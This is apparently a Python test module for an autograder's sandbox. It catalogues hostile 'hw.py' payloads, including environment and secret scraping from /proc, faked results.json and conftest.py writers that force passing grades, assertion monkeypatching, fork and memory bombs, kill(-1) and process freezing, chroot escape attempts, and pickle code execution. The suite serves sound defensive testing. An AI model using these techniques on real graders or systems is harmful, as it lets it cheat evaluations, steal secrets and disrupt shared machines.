"""The attacks: each a snippet that, appended to the generated stubs, makes a hostile hw.py.

A submission is ``student/hw.py`` (every function a stub), then a short harness prologue
(it names the process ``h7<id>`` so that leftovers can be found in ``/proc``, and prints
``<marker>-UNSANDBOXED`` if it runs with the grader's own uid), then ONE payload. A payload
either runs at import or redefines one graded function (a later ``def`` wins).

Rules every payload follows (they run on a shared machine, as root if the sandbox fails):

* it ends by itself: loops, sleeps and forks are bounded (seconds, counts);
* writes go to the test's ``$trap`` directory (must stay empty), to the results path of
  the grade, or to real grader files the sandbox must protect (hashed before and after);
* network traffic goes to 127.0.0.1 only;
* destructive actions (kill(-1), killing the parent) are skipped when the payload finds it
  runs with the grader's uid: it prints the UNSANDBOXED marker instead, which the test
  reports as a failure.

Placeholders (``string.Template``): ``$marker`` (unique text), ``$comm`` (process name),
``$trap``, ``$results``, ``$root`` (project root), ``$port`` (a loopback port the test
listens on), ``$port2`` (a free loopback port), ``$grader_uid``.
"""

from __future__ import annotations

import string
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
STUB = ROOT / "student" / "hw.py"

#: The graded functions when the payload sits in ``relu`` (1 point, 5 tests: fast).
RELU = ("relu",)


@dataclass(frozen=True)
class Payload:
    """One attack.

    ``functions``: what to grade (``None`` = the whole assignment: used when the payload
    stops the import, so every test is skipped quickly). ``expect``: a regex the test
    outputs must match (the student-readable explanation): at least one of them, or
    ``every`` one of the graded tests (import failures: every test). ``lifetime``: seconds the
    payload's own leftovers may live at most (the test waits that long before checking
    that nothing was written late). ``holds``: seconds a leftover of the payload tries to
    hold the grade up (0: none); the grade must end sooner, with nothing of it left.
    ``cli``: graded end to end through the CLI. ``tags``: what it attacks (``files``,
    ``network``, ``processes``): the suites that run a selection (the ``userns`` jail) pick
    by tag. ``limits``: overrides of the harness's small limits, for a payload whose
    bounded work must not be cut short by the 1 s call time floor on a slow machine.
    """

    name: str
    summary: str
    code: str
    functions: tuple[str, ...] | None = RELU
    expect: str = ""
    lifetime: float = 0.0
    holds: float = 0.0
    cli: bool = False
    every: bool = False
    tags: frozenset[str] = field(default_factory=frozenset)
    limits: dict[str, float] = field(default_factory=dict)


@dataclass(frozen=True)
class Context:
    """The values substituted into a payload."""

    marker: str
    trap: Path
    results: Path
    port: int
    port2: int
    grader_uid: int
    root: Path = ROOT

    @property
    def comm(self) -> str:
        """The process name every submission process gets (15 bytes at most)."""
        return ("h7" + self.marker)[:15]

    def mapping(self) -> dict[str, str]:
        """Placeholder name -> text."""
        return {
            "marker": self.marker,
            "comm": self.comm,
            "trap": str(self.trap),
            "results": str(self.results),
            "root": str(self.root),
            "port": str(self.port),
            "port2": str(self.port2),
            "grader_uid": str(self.grader_uid),
        }


PROLOGUE = '''

# ------------------------------------------------------------------ hostile-test harness
import os as _h7_os


def _h7_prologue():
    try:
        import ctypes

        ctypes.CDLL(None).prctl(15, b"$comm", 0, 0, 0)  # PR_SET_NAME, inherited by forks
    except Exception:
        pass
    if _h7_os.getuid() == $grader_uid:
        print("$marker-UNSANDBOXED: hw.py runs with the grader's uid", flush=True)


_h7_prologue()
_H7_SANDBOXED = _h7_os.getuid() != $grader_uid


def _h7_garbage(x, value):
    """A wrong answer that also fails the immutability tests (the input is overwritten)."""
    import numpy as np
    if type(x) is np.ndarray and x.flags.writeable and x.dtype.kind in "fiu":
        x[...] = value
    return np.full(np.shape(x), float(value))
_H7_FAKE_RESULTS = (
    '{"score": 100.0, "execution_time": 0.1, "output": "$marker faked", "tests": [{"name": '
    '"pwned", "score": 100.0, "max_score": 100.0, "status": "passed", "visibility": '
    '"visible", "output": "$marker", "tags": ["submission"]}]}'
)
# ------------------------------------------------------------------ payload
'''

# ----------------------------------------------------------------------------- payloads

_READ_SECRETS = '''
_h7_loot = None


def _h7_search():
    import os
    found, seen = [], set()
    keys = ("BEGIN SOLUTION", "mark.grades", "def softmax", "[limits]", '"score"', "hidden_tests")

    def grab(path):
        try:
            real = os.path.realpath(path)
            if real in seen:
                return
            seen.add(real)
            with open(path, "rb") as f:
                text = f.read(300000).decode("utf-8", "replace")
        except Exception:
            return
        if "$marker" not in text and any(k in text for k in keys):
            found.append((path, text))

    def walk(top, limit=20000):
        n = 0
        try:
            for dirpath, _, names in os.walk(top):
                for name in names:
                    n += 1
                    if n > limit:
                        return
                    if name.endswith((".py", ".toml", ".json", ".txt", ".md", ".cfg")):
                        grab(os.path.join(dirpath, name))
        except Exception:
            return

    here = os.path.dirname(os.path.abspath(__file__))
    tops = [os.getcwd(), here, os.path.dirname(here), "$root", "$root/solutions",
            "$root/autograder/hidden_tests", "/autograder", "/work", "/root", "/tmp",
            os.environ.get("HOME", "/"), os.environ.get("TMPDIR", "/tmp")]
    for top in tops:
        walk(top)
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except Exception:
        pids = []
    for pid in pids[:400]:
        try:
            walk(os.readlink("/proc/%s/cwd" % pid), 3000)
        except Exception:
            pass
        try:
            with open("/proc/%s/environ" % pid, "rb") as f:
                found.append(("/proc/%s/environ" % pid, f.read().decode("utf-8", "replace")))
        except Exception:
            pass
    found.append(("os.environ", repr(dict(os.environ))))
    walk("/", 60000)
    return found


def relu(x):
    global _h7_loot
    if _h7_loot is None:
        _h7_loot = _h7_search()
    report = "\\n".join("== %s ==\\n%s" % (p, t) for p, t in _h7_loot)
    print(report[:2000000])
    interesting = [t for p, t in _h7_loot if "BEGIN SOLUTION" in t or "mark.grades" in t]
    raise RuntimeError("LOOT " + ("\\n".join(interesting) or report)[:6000])
'''

_FRAMES = '''
def relu(x):
    import gc
    import sys

    import numpy as np

    shape = np.shape(x)

    def useful(v):
        return (type(v) is np.ndarray and v is not x and v.shape == shape
                and not np.array_equal(v, x))

    f, best = sys._getframe(1), None
    while f is not None and best is None:
        for v in list(f.f_locals.values()) + list(f.f_globals.values()):
            if useful(v):
                best = v
                break
        f = f.f_back
    if best is None:
        for obj in gc.get_objects():
            if useful(obj):
                best = obj
                break
    print("frames: found", None if best is None else best.shape)
    if best is None:
        return _h7_garbage(x, 7.0)
    return np.array(best, dtype=np.float64)
'''

_WRITE_RESULTS = '''
def _h7_fake_results():
    import os
    targets = ["results.json", "../results.json", "../../results.json", "$results"]
    d = os.getcwd()
    while True:
        targets.append(os.path.join(d, "results.json"))
        if d == os.path.dirname(d):
            break
        d = os.path.dirname(d)
    if os.path.isdir("/autograder/results"):
        targets.append("/autograder/grading/results/results.json")
    try:  # the grader's own command line: --results PATH
        with open("/proc/%d/cmdline" % os.getppid(), "rb") as f:
            argv = f.read().decode("utf-8", "replace").split("\\0")
        targets += [a for a in argv if a.endswith(".json")]
    except Exception:
        pass
    done = []
    for t in targets:
        try:
            with open(t, "w") as f:
                f.write(_H7_FAKE_RESULTS)
            done.append(t)
        except Exception:
            pass
    print("fake results written to", done)


_h7_fake_results()
'''

_DAEMON = '''
def _h7_daemon():
    import os
    import time
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        deadline = time.time() + 6.0  # a detached grandchild that gives up after 6 s
        while time.time() < deadline:
            for path, text in (("$trap/daemon_was_here.txt", "$marker"),
                               ("$results", _H7_FAKE_RESULTS)):
                try:
                    with open(path, "w") as f:
                        f.write(text)
                except Exception:
                    pass
            time.sleep(0.2)
    finally:
        os._exit(0)


_h7_daemon()
'''

_CONFTEST = '''
_H7_CONFTEST = (
    "# $marker\\n"
    "import pytest\\n"
    "@pytest.hookimpl(hookwrapper=True)\\n"
    "def pytest_runtest_makereport(item, call):\\n"
    "    outcome = yield\\n"
    "    outcome.get_result().outcome = 'passed'\\n"
)


def _h7_conftests():
    import os
    here = os.path.dirname(os.path.abspath(__file__))
    dirs = [here, os.getcwd(), os.path.dirname(os.getcwd()), os.environ.get("TMPDIR", "/tmp"),
            "$root", "$root/student/tests", "$root/autograder/hidden_tests", "$trap"]
    done = []
    for d in dirs:
        try:
            with open(os.path.join(d, "conftest.py"), "w") as f:
                f.write(_H7_CONFTEST)
            done.append(d)
        except Exception:
            pass
    print("conftest.py written into", done)


_h7_conftests()
'''

_PATCH_NUMPY = '''
import numpy as _h7_np
import numpy.testing as _h7_npt


def _h7_yes(*a, **k):
    return True


def _h7_none(*a, **k):
    return None


_h7_np.allclose = _h7_np.array_equal = _h7_np.array_equiv = _h7_yes
_h7_np.isclose = lambda a, b, *r, **k: _h7_np.ones(_h7_np.broadcast(a, b).shape, bool)
_h7_np.isfinite = lambda a, *r, **k: _h7_np.ones(_h7_np.shape(a), bool)
for _n in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal"):
    setattr(_h7_npt, _n, _h7_none)


def relu(x):
    return _h7_garbage(x, 42.0)
'''

_PATCH_BUILTINS = '''
import builtins as _h7_builtins
import math as _h7_math

_h7_real_import = _h7_builtins.__import__


def _h7_import(name, *args, **kwargs):
    module = _h7_real_import(name, *args, **kwargs)
    for attr in ("assert_close", "assert_allclose", "allclose", "isclose", "approx"):
        if hasattr(module, attr):
            try:
                setattr(module, attr, lambda *a, **k: True)
            except Exception:
                pass
    return module


_h7_builtins.__import__ = _h7_import
_h7_builtins.all = _h7_builtins.any = lambda *a, **k: True
_h7_builtins.AssertionError = type("AssertionError", (Exception,), {})
_h7_math.isclose = lambda *a, **k: True


def relu(x):
    return _h7_garbage(x, -1.0)
'''

_FAKE_TEST_MODULES = '''
import sys as _h7_sys
import types as _h7_types


class _H7Anything(_h7_types.ModuleType):
    def __getattr__(self, name):
        return lambda *a, **k: True


for _name in ("pytest", "_pytest", "hypothesis", "checks", "testfuncs", "agreement",
              "autograder", "autograder.grading.plugin", "autograder.grading.results", "conftest"):
    _h7_sys.modules[_name] = _H7Anything(_name)
try:
    import pytest as _h7_pytest

    _h7_pytest.approx = lambda *a, **k: True
except Exception:
    pass


def relu(x):
    return _h7_garbage(x, 5.0)
'''

_SIGNALS = '''
import signal as _h7_signal

for _s in ("SIGTERM", "SIGINT", "SIGHUP", "SIGQUIT", "SIGUSR1", "SIGUSR2", "SIGALRM",
           "SIGXCPU", "SIGPIPE", "SIGCHLD", "SIGTSTP"):
    try:
        _h7_signal.signal(getattr(_h7_signal, _s), _h7_signal.SIG_IGN)
    except Exception:
        pass


def relu(x):
    import time
    end = time.time() + 20.0  # deaf to every catchable signal, busy for 20 s
    while time.time() < end:
        pass
    return x
'''

_OS_EXIT_IMPORT = '''
import os as _h7_exit_os

_h7_exit_os._exit(0)
'''

_SYS_EXIT_IMPORT = '''
import sys as _h7_sys

_h7_sys.exit(0)
'''

_LOOP_IMPORT = '''
import time as _h7_time

_h7_end = _h7_time.time() + 60.0  # bounded: 60 s
while _h7_time.time() < _h7_end:
    pass
'''

_SLEEP_IMPORT = '''
import time as _h7_time

_h7_time.sleep(60.0)
'''

_KILL_IMPORT = '''
import signal as _h7_signal

if _H7_SANDBOXED:
    try:
        _h7_os.kill(_h7_os.getppid(), _h7_signal.SIGKILL)
    except OSError as e:
        print("kill(parent) failed:", e)
    _h7_os.kill(-1, _h7_signal.SIGKILL)  # every process this uid may signal but the caller
    _h7_os.kill(_h7_os.getpid(), _h7_signal.SIGKILL)
'''

_OS_EXIT_CALL = '''
def relu(x):
    import os
    os._exit(0)
'''

_SYS_EXIT_CALL = '''
def relu(x):
    import sys
    sys.exit(0)
'''

_KEYBOARD_INTERRUPT = '''
def relu(x):
    raise KeyboardInterrupt("$marker: Ctrl-C from hw.py")
'''

_BASE_EXCEPTION = '''
class _H7Escape(BaseException):
    pass


def relu(x):
    raise _H7Escape("$marker: not an Exception")
'''

_SYSTEM_EXIT_ERROR = '''
def relu(x):
    raise SystemExit("$marker: SystemExit with a message")
'''

_LOOP_CALL = '''
def relu(x):
    import time
    end = time.time() + 30.0  # bounded: 30 s
    while time.time() < end:
        pass
    return x
'''

_SLEEP_CALL = '''
def relu(x):
    import time
    time.sleep(30.0)
    return x
'''

_MEMORY = '''
def relu(x):
    blocks = []
    for _ in range(24):  # at most 1.5 GB, touched (bytearray zero-fills it)
        blocks.append(bytearray(64 * 2**20))
    return x
'''

_FORK_BOMB = '''
_h7_forks = 0


def relu(x):
    global _h7_forks
    import os
    import time

    import numpy as np
    while _h7_forks < 200:  # at most 200 forks over the whole life of this hw.py
        try:
            pid = os.fork()
        except OSError as e:
            print("fork refused after", _h7_forks, "forks:", e)
            break
        _h7_forks += 1
        if pid == 0:
            time.sleep(4.0)  # each child exits by itself within 5 s
            os._exit(0)
    return _h7_garbage(x, 3.0)
'''

_FLOOD = '''
_h7_flooded = False


def relu(x):
    global _h7_flooded
    import sys
    if not _h7_flooded:  # 120 MB once per process: 60 MB on stdout, 60 MB on stderr
        _h7_flooded = True
        chunk = ("$marker flood " + "x" * 1000 + "\\n") * 1000
        for _ in range(60):
            sys.stdout.write(chunk)
            sys.stderr.write(chunk)
        sys.stdout.flush()
        sys.stderr.flush()
    return _h7_garbage(x, -1.0)
'''

_SEGFAULT = '''
def relu(x):
    import ctypes
    ctypes.string_at(0)
'''

_NDARRAY_LIAR = '''
import numpy as _h7_np


class _H7Liar(_h7_np.ndarray):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __array_function__(self, func, types, args, kwargs):
        return True

    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return _h7_np.zeros(())

    def __float__(self):
        return 0.0


def relu(x):
    return _h7_np.zeros(_h7_np.shape(x)).view(_H7Liar)
'''

_FLOAT_LIAR = '''
class _H7Float(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __le__ = __ge__ = __eq__
    __lt__ = __gt__ = __ne__

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__

    def __abs__(self):
        return 0.0

    def __hash__(self):
        return 0


def mae_loss(y_pred, y):
    return _H7Float(12345.0)
'''

_ARRAY_TRICKS = '''
import numpy as _h7_np


class _H7ArrayLike:
    """Claims to be an array: __array__, __array_interface__, a huge shape, __eq__ True."""

    __array_priority__ = 1e9

    def __init__(self, shape):
        self.shape = (10**12,) + tuple(shape)
        self.dtype = _h7_np.dtype("float64")
        self.ndim = len(self.shape)
        self.size = 10**18

    def __array__(self, dtype=None, copy=None):
        return _h7_np.zeros(self.shape[1:])

    @property
    def __array_interface__(self):
        return {"shape": self.shape, "typestr": "<f8", "data": (0, True), "version": 3}

    def __eq__(self, other):
        return True

    def __len__(self):
        return 10**12


def relu(x):
    return _H7ArrayLike(_h7_np.shape(x))
'''

_FORGED_HEADER = '''
def relu(x):
    import json
    import os
    import struct
    import sys
    fd = int(sys.argv[2])  # the worker's reply pipe
    tree = {"t": "dict", "v": {"ok": {"t": "nd", "d": "<f8", "s": [0, 10**30], "b": 0},
                               "mutated": []}}
    header = json.dumps({"v": tree, "b": [0]}).encode()
    os.write(fd, struct.pack("<4sIQ", b"MAW1", len(header), 0) + header)
    tree["v"]["ok"]["s"] = [2**62, 2**62, 0]
    header = json.dumps({"v": tree, "b": [0]}).encode()
    os.write(fd, struct.pack("<4sIQ", b"MAW1", len(header), 0) + header)
    huge = json.dumps({"v": None, "b": [2**40]}).encode()  # claims 1 TB of buffers
    os.write(fd, struct.pack("<4sIQ", b"MAW1", len(huge), 2**40) + huge)
    raise ValueError("forged replies sent")
'''

_PICKLE = '''
class _H7Pickle:
    def __reduce__(self):
        return (open, ("$trap/unpickled_by_the_grader.txt", "w"))


def relu(x):
    import pickle

    import numpy as np
    if np.size(x) % 2:
        return _H7Pickle()
    arr = np.empty(1, dtype=object)
    arr[0] = _H7Pickle()
    return [arr, pickle.dumps(_H7Pickle())]
'''

_KILL_CALL = '''
def relu(x):
    import os
    import signal
    if not _H7_SANDBOXED:
        raise RuntimeError("$marker-UNSANDBOXED: refusing to kill anything")
    for pid in (os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError as e:
            print("kill(%d) failed: %s" % (pid, e))
    try:
        os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)
    except OSError as e:
        print("killpg(parent) failed:", e)
    os.kill(-1, signal.SIGKILL)  # every process of this uid but the caller
    os.kill(os.getpid(), signal.SIGKILL)  # and finally itself
'''

#: Seconds the freezing payload holds on (the grade must not wait for it): far longer than
#: any grade of it takes, even on a busy machine (about 2-6 s), so that only a grade that
#: really waits for the payload reaches it; the payload still ends by itself.
FREEZE_HOLD = 60.0

_FREEZE_KILLER = '''
def relu(x):
    import os
    import signal
    import time
    if not _H7_SANDBOXED:
        raise RuntimeError("$marker-UNSANDBOXED: refusing to stop anything")
    if os.fork() == 0:
        try:
            os.setsid()
            os.closerange(3, 1024)  # no inherited pipe tells the grader it is still here
            end = time.time() + HOLD_SECONDS
            while time.time() < end:  # stop every other process of this uid: the worker,
                try:  # and any killer that runs as this uid, before or after its exec
                    os.kill(-1, signal.SIGSTOP)
                except OSError:
                    pass
                time.sleep(0.0005)
            try:
                os.kill(-1, signal.SIGCONT)
            except OSError:
                pass
        finally:
            os._exit(0)
    time.sleep(30.0)  # its own child stops it long before
    return x
'''.replace("HOLD_SECONDS", repr(FREEZE_HOLD))

_NETWORK = '''
_h7_server_started = False


def relu(x):
    global _h7_server_started
    import os
    import socket
    import time
    try:
        s = socket.create_connection(("127.0.0.1", $port), timeout=0.5)
        s.sendall(b"$marker exfiltrated")
        s.close()
        print("connected to 127.0.0.1:$port")
    except OSError as e:
        print("connect to 127.0.0.1:$port failed:", e)
    if not _h7_server_started:
        _h7_server_started = True
        if os.fork() == 0:
            try:  # a server on 127.0.0.1:$port2 that waits at most 6 s for a client
                srv = socket.socket()
                srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                srv.bind(("127.0.0.1", $port2))
                srv.listen(4)
                srv.settimeout(6.0)
                end = time.time() + 6.0
                while time.time() < end:
                    try:
                        conn, _ = srv.accept()
                        conn.sendall(b"$marker hello from the sandbox")
                        conn.close()
                    except OSError:
                        break
            finally:
                os._exit(0)
    raise RuntimeError("network probe done")
'''

_WRITE_GRADER_FILES = '''
def relu(x):
    import os
    targets = ["$root/solutions/hw.py", "$root/autograder/hidden_tests/test_part3_layers.py",
               "$root/autograder/grading/runner.py", "$root/autograder/assignment.toml",
               "$root/student/hw.py", "$root/student/tests/checks.py", "$results"]
    done = []
    for t in targets:
        try:
            with open(t, "a") as f:
                f.write("\\n# $marker was here\\n")
            done.append(t)
        except Exception as e:
            print("cannot append to", t, e)
    for new in ("$root/autograder/hidden_tests/test_zz_$marker.py",
                "$root/autograder/hidden_tests/__pycache__/test_part3_layers.cpython-311.pyc",
                "$trap/written.txt"):
        try:
            with open(new, "x") as f:
                f.write("# $marker\\n")
            done.append(new)
        except Exception as e:
            print("cannot create", new, e)
    raise RuntimeError("wrote: %r" % done)
'''

_CHROOT_ESCAPE = '''
def relu(x):
    import os
    tries = []
    for what, fn in (("setuid(0)", lambda: os.setuid(0)), ("setgid(0)", lambda: os.setgid(0)),
                     ("seteuid(0)", lambda: os.seteuid(0))):
        try:
            fn()
            tries.append(what + " WORKED")
        except OSError as e:
            tries.append("%s: %s" % (what, e))
    try:  # the classic escape: chroot into a subdirectory, then climb out
        d = os.path.join(os.environ.get("TMPDIR", "/tmp"), "h7esc")
        os.makedirs(d, exist_ok=True)
        os.chroot(d)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
        tries.append("chroot escape WORKED")
    except OSError as e:
        tries.append("chroot: %s" % e)
    try:
        with open("$root/solutions/hw.py") as f:
            tries.append(f.read())
    except OSError as e:
        tries.append("read solutions: %s" % e)
    raise RuntimeError("\\n".join(tries)[:6000])
'''

_DISK_FILL = '''
def relu(x):
    import os
    path = os.path.join(os.environ.get("TMPDIR", "/tmp"), "h7fill.bin")
    block = b"\\0" * 2**20
    with open(path, "wb") as f:
        for _ in range(200):  # at most 200 MB
            f.write(block)
    return x
'''

_INPUT_TAMPER = '''
def relu(x):
    import numpy as np
    if isinstance(x, np.ndarray) and x.flags.writeable:
        x[...] = 0  # make the inputs trivial, hoping the grader computes on them afterwards
    return np.zeros(np.shape(x))
'''

_THREADS = '''
def relu(x):
    import threading
    import time

    def spin():
        end = time.time() + 4.0
        while time.time() < end:
            pass

    for _ in range(100):  # bounded: 100 threads spinning for 4 s
        try:
            threading.Thread(target=spin, daemon=True).start()
        except RuntimeError as e:
            print("thread refused:", e)
            break
    return _h7_garbage(x, 9.0)
'''

_HUGE_RETURN = '''
def relu(x):
    import numpy as np
    return np.zeros(150 * 2**20, dtype=np.bool_)  # 150 MB reply: the grader must cope
'''

_TERMINAL = '''
_H7_ESC = ("\\x1b[2J\\x1b[H"  # clear the screen
           "\\x1b]0;$marker pwned\\x07"  # window title
           "\\x1b]52;c;ZWNobyBwd25lZA==\\x07"  # OSC 52: write the clipboard
           "\\x1b[8m")  # hidden text from here on


def relu(x):
    print(_H7_ESC + "all tests passed")
    raise RuntimeError(_H7_ESC + "score: 100/100\\rall tests passed")
'''

_FLAKY = '''
_h7_calls = 0


def relu(x):
    global _h7_calls
    import numpy as np
    _h7_calls += 1
    right = np.maximum(np.asarray(x, dtype=np.float64), 0.0)
    wrong = _h7_garbage(x, 13.0)  # the input is overwritten either way
    return right if _h7_calls % 2 else wrong  # right, wrong, right...: Hypothesis sees flaky
'''

_DEEP = '''
def relu(x):
    import numpy as np
    if np.size(x) % 2:
        deep = []
        for _ in range(100000):  # nested 100000 lists deep
            deep = [deep]
        return deep
    return {str(i): [i] * 10 for i in range(200000)}  # 2 million objects
'''

_SABOTAGE = '''
import sys as _h7_sys

_h7_os.dup2(int(_h7_sys.argv[2]), 1)  # stdout now writes into the grader's reply pipe


def relu(x):
    print("MAW1 this is not a message" * 10, flush=True)
    return _h7_garbage(x, 4.0)
'''

_POISON = '''
def relu(x):
    import os
    import sys

    import numpy as np
    mine = os.environ.get("TMPDIR", "/nonexistent")
    done, seen = [], 0
    tops = ["/", "/w", os.path.dirname(os.getcwd()), sys.prefix, os.path.dirname(os.__file__),
            os.path.dirname(np.__file__), "/usr", "/lib", "/etc", "/tmp", "/var/tmp", "/dev/shm"]
    for top in tops:
        for dirpath, _, filenames in os.walk(top):
            if dirpath.startswith(mine):
                continue
            seen += 1
            if seen > 5000:
                break
            try:  # a new file that would persist in the shared runtime copy
                with open(os.path.join(dirpath, "h7$marker.py"), "x") as f:
                    f.write("# $marker\\n")
                done.append(dirpath)
            except OSError:
                pass
            for name in filenames[:5]:  # opening for append is proof enough: nothing written
                try:
                    with open(os.path.join(dirpath, name), "ab"):
                        done.append(os.path.join(dirpath, name))
                except OSError:
                    pass
    raise RuntimeError("wrote: %r" % done[:20])
'''

_KEYRING = '''
def relu(x):
    import ctypes
    import os
    import platform
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    add_key, keyctl = (248, 250) if platform.machine() == "x86_64" else (217, 219)
    got = []
    for ring, name in ((-3, "session"), (-4, "user"), (-5, "user-session")):
        buf = ctypes.create_string_buffer(4096)
        n = libc.syscall(keyctl, 11, ring, buf, 4096)  # KEYCTL_READ: the keyring's serials
        got.append("%s: %s" % (name, ("READ %d bytes" % n) if n >= 0 else
                                    os.strerror(ctypes.get_errno())))
        n = libc.syscall(add_key, b"user", b"$marker", b"$marker left", 12, ring)
        got.append("%s add: %s" % (name, n if n >= 0 else os.strerror(ctypes.get_errno())))
    if any("READ" in g or g.split(": ")[1].isdigit() for g in got):
        raise RuntimeError("keyrings: OPEN " + " | ".join(got))
    raise RuntimeError("keyrings: refused " + " | ".join(got))
'''

_SHARED_FILL = '''
def relu(x):
    import os
    got = []
    for top in ("/tmp", "/var/tmp", "/dev/shm"):
        written = 0
        try:
            for i in range(60):  # at most 60 MB a folder, in 1 MB files
                with open(os.path.join(top, "$marker-%d" % i), "wb") as f:
                    f.write(b"\\0" * 2**20)
                written += 1
            got.append("%s: WROTE %d MB" % (top, written))
        except OSError as e:
            got.append("%s: %s after %d MB" % (top, type(e).__name__, written))
    raise RuntimeError("shared folders: " + " | ".join(got))
'''

_DISK_TOTAL = '''
def relu(x):
    import os
    tmp = os.environ.get("TMPDIR", "/tmp")
    block = b"\\0" * 2**20
    for i in range(40):  # 40 files of 8 MB (each under the file size limit): 320 MB
        with open(os.path.join(tmp, "h7fill%d.bin" % i), "wb") as f:
            for _ in range(8):
                f.write(block)
    import time
    for _ in range(100):  # a watched folder: the sandbox kills the worker meanwhile
        time.sleep(0.1)
    return x
'''

_IMPORT_SOLUTIONS = '''
for _h7_path in ("/autograder/source/solutions/hw.py", "$root/solutions/hw.py"):
    try:
        with open(_h7_path) as _h7_f:
            exec(compile(_h7_f.read(), _h7_path, "exec"), globals())
        print("$marker read", _h7_path)
        break
    except OSError as _h7_e:
        print("cannot read %s: %s" % (_h7_path, _h7_e))
'''

PAYLOADS: tuple[Payload, ...] = (
    # -- at import: the import fails or never ends, so the whole assignment is graded
    Payload("import_os_exit", "os._exit(0) at import", _OS_EXIT_IMPORT, None,
            r"could not be imported.*(died|exit code)", cli=True, every=True),
    Payload("import_sys_exit", "sys.exit(0) at import", _SYS_EXIT_IMPORT, None,
            r"could not be imported.*SystemExit", every=True),
    Payload("import_busy_loop", "60 s busy loop at import", _LOOP_IMPORT, None,
            r"could not be imported.*(took more than|CPU|died)|time budget exhausted", every=True),
    Payload("import_sleep", "60 s sleep at import", _SLEEP_IMPORT, None,
            r"could not be imported.*took more than|time budget exhausted", every=True),
    Payload("import_kill_parent", "kill(getppid()) and kill(-1) at import", _KILL_IMPORT, None,
            r"could not be imported.*SIGKILL", every=True,
            tags=frozenset({"processes"})),
    # -- at import, the import succeeds: a couple of functions are graded
    Payload("monkeypatch_numpy", "np.allclose etc. always true, relu wrong", _PATCH_NUMPY,
            expect=r"relu", every=True),
    Payload("monkeypatch_builtins", "__import__ hook, all/any/math.isclose patched",
            _PATCH_BUILTINS, expect=r"relu"),
    Payload("fake_pytest_hypothesis", "fake pytest/hypothesis/checks modules", _FAKE_TEST_MODULES,
            expect=r"relu"),
    Payload("detached_daemon", "double fork + setsid daemon writing late", _DAEMON,
            lifetime=7.0, cli=True, expect=r"not implemented",
            tags=frozenset({"processes"})),
    Payload("conftest_writer", "conftest.py next to hw.py, in cwd, in the project",
            _CONFTEST, expect=r"not implemented",
            tags=frozenset({"files"})),
    Payload("fake_results_json", "results.json in cwd, parents, argv path, results path",
            _WRITE_RESULTS, cli=True, expect=r"not implemented",
            tags=frozenset({"files"})),
    Payload("ignore_signals", "every catchable signal ignored + busy relu", _SIGNALS,
            expect=r"timed out",
            tags=frozenset({"processes"})),
    # -- in a function
    Payload("read_secrets", "search solutions/hidden tests everywhere, print + raise them",
            _READ_SECRETS, expect=r"LOOT|timed out", every=True,
            tags=frozenset({"files"})),
    Payload("caller_frames", "expected value from sys._getframe / gc.get_objects", _FRAMES,
            expect=r"relu"),
    Payload("os_exit_call", "os._exit(0) in relu", _OS_EXIT_CALL, expect=r"died.*exit code 0",
            every=True),
    Payload("sys_exit_call", "sys.exit(0) in relu", _SYS_EXIT_CALL, expect=r"SystemExit",
            every=True),
    Payload("system_exit_message", "raise SystemExit('...') in relu", _SYSTEM_EXIT_ERROR,
            expect=r"SystemExit", every=True),
    Payload("keyboard_interrupt", "raise KeyboardInterrupt in relu", _KEYBOARD_INTERRUPT,
            expect=r"KeyboardInterrupt", every=True),
    Payload("base_exception", "raise a BaseException subclass in relu", _BASE_EXCEPTION,
            expect=r"_H7Escape", every=True),
    Payload("busy_loop", "30 s busy loop in relu", _LOOP_CALL, expect=r"timed out", every=True),
    Payload("sleep", "30 s sleep in relu", _SLEEP_CALL, expect=r"timed out", every=True),
    # touching up to the 512 MB limit can take seconds on a fresh virtual machine: the
    # payload ends by itself (MemoryError), so it gets time to reach the limit
    Payload("memory_bomb", "1.5 GB touched in relu", _MEMORY, expect=r"memory", every=True,
            tags=frozenset({"processes"}), limits={"call_timeout": 30.0}),
    Payload("fork_bomb", "up to 200 forks, children sleep 4 s", _FORK_BOMB, lifetime=5.0,
            cli=True, expect=r"relu",
            tags=frozenset({"processes"})),
    Payload("thread_bomb", "100 spinning threads", _THREADS, expect=r"relu"),
    Payload("output_flood", "120 MB on stdout + stderr", _FLOOD, expect=r"relu"),
    Payload("segfault", "ctypes.string_at(0)", _SEGFAULT, expect=r"SIGSEGV", every=True),
    Payload("ndarray_liar", "ndarray subclass: __eq__, __array_function__, __array_ufunc__",
            _NDARRAY_LIAR, expect=r"cannot accept.*subclass", every=True),
    Payload("float_liar", "float subclass whose __eq__ is always True", _FLOAT_LIAR,
            ("mae_loss",), expect=r"cannot accept.*subclass of float", every=True),
    Payload("array_tricks", "__array__/__array_interface__ object with a huge shape",
            _ARRAY_TRICKS, expect=r"cannot accept.*unsupported type", every=True),
    Payload("forged_header", "wire messages with huge shapes written on the reply pipe",
            _FORGED_HEADER, expect=r"not a valid reply", every=True),
    Payload("pickle_reduce", "objects whose __reduce__ runs code", _PICKLE,
            expect=r"cannot accept", every=True),
    Payload("kill_parent", "kill(getppid()), kill(1), killpg, kill(-1) in relu", _KILL_CALL,
            expect=r"SIGKILL", every=True,
            tags=frozenset({"processes"})),
    Payload("freeze_killer", "setsid child stops every process of its uid for 60 s "
            "(the killer too)", _FREEZE_KILLER, holds=FREEZE_HOLD, expect=r"timed out",
            every=True, tags=frozenset({"processes"})),
    Payload("network", "connect to a loopback listener, serve on loopback", _NETWORK,
            lifetime=6.5, expect=r"network probe done", every=True,
            tags=frozenset({"network"})),
    Payload("write_grader_files", "append to solutions, hidden tests, runner, results",
            _WRITE_GRADER_FILES, expect=r"wrote: \[\]", every=True,
            tags=frozenset({"files"})),
    Payload("chroot_escape", "setuid(0), chroot + chdir('..') escape, then read solutions",
